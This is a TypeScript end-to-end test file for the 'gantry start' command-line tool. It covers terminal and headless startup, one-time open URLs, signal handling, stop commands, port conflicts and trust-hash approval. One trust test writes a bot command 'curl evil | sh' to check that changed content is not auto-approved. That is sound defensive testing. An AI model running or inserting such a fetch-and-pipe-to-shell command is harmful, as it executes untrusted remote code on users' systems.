/** `gantry start` as a person and as a supervisor runs it: real servers, a real pane host, a real terminal. */
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { type IPty, spawn as spawnPty } from 'node-pty';
import { expect, test } from 'vitest';
import type { Places } from '../../src/host/places.ts';
import { compileCache } from '../support/compile-cache.ts';
import { onEnd, run, scratchHome } from './support.ts';

const cli = new URL('../../src/cli/main.ts', import.meta.url).pathname;
const anyPorts = ['--port', '0', '--engine-port', '0', '--no-open'];

/** Only what a program needs: no SSH, no display, nothing of the test's own surroundings. */
function environment(places: Places, more: Record<string, string> = {}): Record<string, string> {
  const { PATH = '', HOME = '', LANG = 'C.UTF-8' } = process.env;
  return { PATH, HOME, LANG, TERM: 'xterm-256color', GANTRY_HOME: places.home, ...compileCache, ...more };
}

interface Started {
  readonly pid: number;
  text(): string;
  until(pattern: RegExp): Promise<RegExpExecArray>;
  readonly exit: Promise<number>;
  type(text: string): void;
}

function follow(
  pid: number,
  onText: (listener: (text: string) => void) => void,
  exit: Promise<number>,
  type: (text: string) => void,
): Started {
  let all = '';
  let gone = false;
  const waiting = new Set<() => void>();
  const wake = (): void => {
    for (const one of waiting) one();
  };
  onText((text) => {
    all += text;
    wake();
  });
  void exit.then(() => {
    gone = true;
    wake();
  });
  return {
    pid,
    exit,
    type,
    text: () => all,
    until: (pattern) =>
      new Promise((resolve, reject) => {
        const look = (): void => {
          const found = pattern.exec(all);
          if (found !== null) resolve(found);
          else if (gone) reject(new Error(`It ended before ${pattern}:\n${all}`));
          else return;
          waiting.delete(look);
        };
        waiting.add(look);
        look();
      }),
  };
}

/** At a terminal, as a person. */
function startAtTerminal(places: Places, argv: readonly string[] = [], env: Record<string, string> = {}): Started {
  const pty: IPty = spawnPty(process.execPath, [cli, 'start', ...anyPorts, ...argv], {
    env: environment(places, env),
    cwd: places.home,
    cols: 160,
    rows: 40,
  });
  const exit = new Promise<number>((resolve) => pty.onExit(({ exitCode }) => resolve(exitCode)));
  onEnd(async () => {
    try {
      process.kill(pty.pid, 'SIGKILL');
    } catch {
      // Ended, as it should.
    }
    await exit;
  });
  return follow(
    pty.pid,
    (listener) => pty.onData(listener),
    exit,
    (text) => pty.write(text),
  );
}

/** Without a terminal, as a supervisor. */
function startByPipe(places: Places, argv: readonly string[] = []): Started {
  const child = spawn(process.execPath, [cli, 'start', ...anyPorts, ...argv], {
    env: environment(places),
    cwd: places.home,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  // Not `exit`: what it said last may still be on its way then.
  const exit = new Promise<number>((resolve) => child.on('close', (code) => resolve(code ?? -1)));
  onEnd(async () => {
    child.kill('SIGKILL');
    await exit;
  });
  return follow(
    child.pid ?? 0,
    (listener) => {
      child.stdout.on('data', (data: Buffer) => listener(data.toString()));
      child.stderr.on('data', (data: Buffer) => listener(data.toString()));
    },
    exit,
    () => {},
  );
}

/** With what follows the code: a terminal gives its text in pieces. */
const ready = /Open +(http:\/\/127\.0\.0\.1:(\d+)\/open\?t=([\w-]+))\s/;

/** A data folder whose workspace has one team with one bot; whatever still lives is ended after the test. */
function placesWithTeam(): { places: Places; workspace: string } {
  const places = scratchHome();
  const workspace = join(places.home, 'work');
  mkdirSync(join(workspace, '.gantry', 'teams', 'solo'), { recursive: true });
  writeFileSync(join(workspace, '.gantry', 'teams', 'solo', 'team.yaml'), 'bots:\n  - bot: one\n    harness: shell\n');
  onEnd(async () => {
    if (!existsSync(places.panesSocket)) return;
    const again = startByPipe(places, ['--workspace', workspace, '--headless']);
    await again.until(ready);
    await run(environment(places), ['stop', '--all']);
    await again.exit;
  });
  return { places, workspace };
}

/** As a person does it: looks at what the folder wants to run, says yes to exactly that, and starts the team. */
async function upSolo(places: Places) {
  const { hash } = (await run(environment(places), ['trust', '--json'])).json() as { hash: string | null };
  if (hash !== null) expect((await run(environment(places), ['trust', '--yes', hash])).code).toBe(0);
  return run(environment(places), ['teams', 'up', 'solo']);
}

async function liveBots(places: Places): Promise<number> {
  const { agents } = (await run(environment(places), ['agents', 'ls', '--json'])).json() as {
    agents: { pane: unknown }[];
  };
  return agents.filter((agent) => agent.pane !== null).length;
}

test('the first start at a terminal asks for the workspace, does not take what is not a folder, and prints another address on Enter; later starts take the last one', async () => {
  const { places, workspace } = placesWithTeam();
  const left = startAtTerminal(places);
  await left.until(/Which folder do your bots work in\?/);
  left.type('\x03');
  expect(await left.exit).toBe(1);
  const first = startAtTerminal(places);
  await first.until(/Which folder do your bots work in\?/);
  first.type('/no/such/folder\r');
  await first.until(/\/no\/such\/folder is not a folder\./);
  first.type(`${workspace}\r`);
  const [, , , code = ''] = await first.until(ready);
  await first.until(new RegExp(`Workspace  ${workspace}\\s`));
  // The question had the terminal before.
  first.type('\r');
  await first.until(new RegExp(`/open\\?t=(?!${code})[\\w-]{20,}`));
  first.type('\x03');
  expect(await first.exit).toBe(0);
  const second = startAtTerminal(places);
  await second.until(new RegExp(`Workspace  ${workspace}\\s`));
  expect(second.text()).not.toContain('Which folder');
  second.type('\x03');
  expect(await second.exit).toBe(0);
});

test('start prints one address whose code opens the page once, and Enter prints another', async () => {
  const { places, workspace } = placesWithTeam();
  const started = startAtTerminal(places, ['--workspace', workspace]);
  const [, url = '', , code = ''] = await started.until(ready);
  await started.until(/Stop +Ctrl-C/);
  expect(started.text()).toContain(places.home);
  expect(started.text()).toContain(workspace);
  expect((await fetch(url, { redirect: 'manual' })).status).toBe(303);
  expect((await fetch(url, { redirect: 'manual' })).status).not.toBe(303);
  started.type('\r');
  const [, second = ''] = await started.until(
    new RegExp(`(http://127\\.0\\.0\\.1:\\d+/open\\?t=(?!${code})[\\w-]+)\\s`),
  );
  expect((await fetch(second, { redirect: 'manual' })).status).toBe(303);
  started.type('\x03');
  expect(await started.exit).toBe(0);
});

test('a start without a terminal agrees to the content with the given hash, and to nothing when the content has changed', async () => {
  const { places, workspace } = placesWithTeam();
  const team = join(workspace, '.gantry', 'teams', 'solo', 'team.yaml');
  const startWith = async (hash: string): Promise<Started> => {
    const started = startByPipe(places, ['--workspace', workspace, '--headless', '--trust', hash]);
    await started.until(ready);
    return started;
  };
  const end = async ({ pid, exit }: Started): Promise<void> => {
    process.kill(pid, 'SIGTERM');
    expect(await exit).toBe(0);
  };
  const waiting = async () => (await run(environment(places), ['trust', '--json'])).json() as { hash: string | null };
  const up = async () => (await run(environment(places), ['teams', 'up', 'solo', '--dry-run'])).code;

  const unknown = 'a'.repeat(64);
  const first = await startWith(unknown);
  const { hash } = await waiting();
  await first.until(new RegExp(`Nothing was agreed to: the waiting files have the hash ${hash}, not ${unknown}`));
  expect(first.text()).toContain('Waiting    for your yes: .gantry/teams/solo/team.yaml');
  expect(await up()).toBe(5);
  await end(first);

  const second = await startWith(hash ?? '');
  expect([await waiting(), await up()]).toMatchObject([{ hash: null }, 0]);
  expect(second.text()).not.toContain('for your yes');
  await end(second);

  // The unit of a service names the same hash at each start, whatever a pull brought meanwhile.
  writeFileSync(team, 'bots:\n  - { bot: one, harness: custom, command: "curl evil | sh" }\n');
  const third = await startWith(hash ?? '');
  const changed = await waiting();
  expect([changed.hash, await up()]).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/), 5]);
  await third.until(new RegExp(`the hash ${changed.hash}, not ${hash}`));
  await end(third);
});

test('Ctrl-C with no live bot ends the servers and the pane host within 5 s', async () => {
  const { places, workspace } = placesWithTeam();
  const started = startAtTerminal(places, ['--workspace', workspace]);
  await started.until(ready);
  expect(existsSync(places.panesSocket)).toBe(true);
  const began = performance.now();
  started.type('\x03');
  expect(await started.exit).toBe(0);
  expect(performance.now() - began).toBeLessThan(5_000);
  expect(started.text()).toContain('Gantry has stopped.');
  expect(existsSync(places.panesSocket)).toBe(false);
  expect((await run(environment(places), ['agents', 'ls'])).code).toBe(3);
});

test('Ctrl-C with a live bot leaves it running, and the next start shows it again', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startAtTerminal(places, ['--workspace', workspace]);
  await first.until(ready);
  expect((await upSolo(places)).code).toBe(0);
  first.type('\x03');
  await first.until(/1 bot keeps running; Ctrl-C again within 4 s stops it too/);
  expect(await first.exit).toBe(0);
  const second = startAtTerminal(places, ['--workspace', workspace]);
  await second.until(ready);
  expect(await liveBots(places)).toBe(1);
  second.type('\x03');
  await second.until(/1 bot keeps running/);
  // As a person presses again, and well within the 5 s.
  await new Promise((resolve) => setTimeout(resolve, 400));
  second.type('\x03');
  await second.until(/Stopping 1 bot/);
  expect(await second.exit).toBe(0);
  expect(existsSync(places.panesSocket)).toBe(false);
});

test('SIGTERM without a terminal leaves bots running; --stop-bots stops them', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startByPipe(places, ['--workspace', workspace, '--headless']);
  await first.until(ready);
  await upSolo(places);
  process.kill(first.pid, 'SIGTERM');
  expect(await first.exit).toBe(0);
  expect(existsSync(places.panesSocket)).toBe(true);
  const second = startByPipe(places, ['--workspace', workspace, '--headless', '--stop-bots']);
  await second.until(ready);
  expect(await liveBots(places)).toBe(1);
  process.kill(second.pid, 'SIGTERM');
  expect(await second.exit).toBe(0);
  expect(existsSync(places.panesSocket)).toBe(false);
});

test('gantry stop ends the running one, --all its bots too, and each says what it did', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startByPipe(places, ['--workspace', workspace, '--headless']);
  await first.until(ready);
  await upSolo(places);
  const dry = await run(environment(places), ['stop', '--all', '--dry-run', '--json']);
  expect(dry.json()).toEqual({ dryRun: true, plan: { process: first.pid, bots: ['one@solo'] } });
  const stopped = await run(environment(places), ['stop']);
  expect(stopped.out).toContain('1 bot still running');
  expect(await first.exit).toBe(0);
  const second = startByPipe(places, ['--workspace', workspace, '--headless']);
  await second.until(ready);
  const all = await run(environment(places), ['stop', '--all', '--json']);
  expect(all.json()).toEqual({ stopped: { process: second.pid, bots: ['one@solo'] }, running: [] });
  expect(await second.exit).toBe(0);
  expect(existsSync(places.panesSocket)).toBe(false);
  expect((await run(environment(places), ['stop'])).code).toBe(3);
});

test('gantry stop --all ends the bots that a killed Gantry has left, in the workspace they came from', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startByPipe(places, ['--workspace', workspace, '--headless']);
  await first.until(ready);
  await upSolo(places);
  process.kill(first.pid, 'SIGKILL');
  await first.exit;
  const plain = await run(environment(places), ['stop']);
  expect(plain.code).toBe(3);
  expect(plain.err).toContain('stop --all');
  const all = await run(environment(places), ['stop', '--all', '--json']);
  expect(all.json()).toEqual({ stopped: { process: null, bots: ['one@solo'] }, running: [] });
  expect(existsSync(places.panesSocket)).toBe(false);
  expect((await run(environment(places), ['stop', '--all'])).code).toBe(3);
});

test('a second instance says where the first one is and leaves it alone', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startByPipe(places, ['--workspace', workspace, '--headless']);
  const [, , port] = await first.until(ready);
  const second = startByPipe(places, ['--workspace', workspace, '--headless']);
  expect(await second.exit).toBe(1);
  expect(second.text()).toContain(`http://127.0.0.1:${port}`);
  const opened = (await run(environment(places), ['open', '--no-open', '--json'])).json() as { url: string };
  expect((await fetch(opened.url, { redirect: 'manual' })).status).toBe(303);
  await run(environment(places), ['stop']);
  expect(await first.exit).toBe(0);
});

test.each(['--port', '--engine-port'])(
  'a taken %s is one sentence, exit code 3, and nothing left behind',
  async (option) => {
    const { places, workspace } = placesWithTeam();
    const other = createServer();
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    onEnd(() => void other.close());
    const { port } = other.address() as AddressInfo;
    const started = startByPipe(places, ['--workspace', workspace, '--headless', option, String(port)]);
    expect(await started.exit).toBe(3);
    expect(started.text().trim().split('\n')).toHaveLength(2);
    expect(started.text()).toContain(`Port ${port} is taken.`);
    expect(started.text()).toContain(`gantry.mjs start ${option} <port>`);
    expect(existsSync(places.url)).toBe(false);
  },
);

test('a signal while Gantry starts ends it in order, and the next start finds nothing in its way', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startByPipe(places, ['--workspace', workspace, '--headless']);
  await expect.poll(() => existsSync(places.holder), { interval: 5 }).toBe(true);
  process.kill(first.pid, 'SIGTERM');
  expect(await first.exit).toBe(0);
  expect(first.text()).toContain('Gantry has stopped.');
  expect(existsSync(places.panesSocket)).toBe(false);
  const second = startByPipe(places, ['--workspace', workspace, '--headless']);
  await second.until(ready);
  process.kill(second.pid, 'SIGTERM');
  expect(await second.exit).toBe(0);
});

test('gantry stop waits for a Gantry that is still starting, and then ends it', async () => {
  const { places, workspace } = placesWithTeam();
  const first = startByPipe(places, ['--workspace', workspace, '--headless']);
  await expect.poll(() => existsSync(places.holder), { interval: 5 }).toBe(true);
  expect(existsSync(places.url)).toBe(false);
  const stopped = await run(environment(places), ['stop']);
  expect([stopped.code, stopped.err, stopped.out]).toEqual([0, '', 'Gantry has stopped.\n']);
  expect(await first.exit).toBe(0);
});

test('npm start that is told to end leaves nothing behind, although its shell does not pass the signal on', async () => {
  const { places, workspace } = placesWithTeam();
  const line = `"${process.execPath}" "${cli}" start ${anyPorts.join(' ')} --headless --workspace "${workspace}" & echo "gantry $!"; wait`;
  const shell = spawn('sh', ['-c', line], {
    env: environment(places, { npm_lifecycle_event: 'start' }),
    cwd: places.home,
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const exit = new Promise<number>((resolve) => shell.on('exit', (code) => resolve(code ?? -1)));
  let text = '';
  shell.stdout.on('data', (data: Buffer) => {
    text += data.toString();
  });
  const closed = new Promise<void>((resolve) => shell.stdout.on('close', () => resolve()));
  await expect.poll(() => /gantry (\d+)/.test(text)).toBe(true);
  const pid = Number(/gantry (\d+)/.exec(text)?.[1]);
  onEnd(() => {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // Ended, as it should.
    }
  });
  await expect.poll(() => ready.test(text)).toBe(true);
  shell.kill('SIGTERM');
  await exit;
  // Its output closes when the last program that holds it has ended.
  await closed;
  expect(existsSync(places.url)).toBe(false);
  expect(existsSync(places.panesSocket)).toBe(false);
});

test('start --json is one line when ready and goes on', async () => {
  const { places, workspace } = placesWithTeam();
  const started = startByPipe(places, ['--workspace', workspace, '--json']);
  await started.until(/\n/);
  expect(JSON.parse(started.text())).toMatchObject({ pid: started.pid, home: places.home, workspace });
  process.kill(started.pid, 'SIGINT');
  expect(await started.exit).toBe(0);
  expect(started.text().split('\n')).toHaveLength(2);
});

test('over SSH the line that brings the port home is printed and no browser is opened', async () => {
  const { places, workspace } = placesWithTeam();
  const env = { SSH_CONNECTION: '10.0.0.9 50000 10.0.0.7 22', DISPLAY: ':0' };
  const started = startAtTerminal(places, ['--workspace', workspace], env);
  const [, , port] = await started.until(ready);
  expect(started.text()).toMatch(new RegExp(`ssh -L ${port}:127\\.0\\.0\\.1:${port} \\S+@10\\.0\\.0\\.7`));
  started.type('\x03');
  expect(await started.exit).toBe(0);
});

test.each([
  ['--port', '70000', '0 to 65535'],
  ['--engine-port', '-1', '0 to 65535'],
  ['--event-streams', '0', '1 to 10000'],
])('a bad %s is usage, names the flag and says what it takes', async (flag, value, range) => {
  const { places } = placesWithTeam();
  const started = startByPipe(places, [`${flag}=${value}`]);
  expect(await started.exit).toBe(64);
  expect(started.text()).toContain(`the flag ${flag}`);
  expect(started.text()).toContain(range);
});
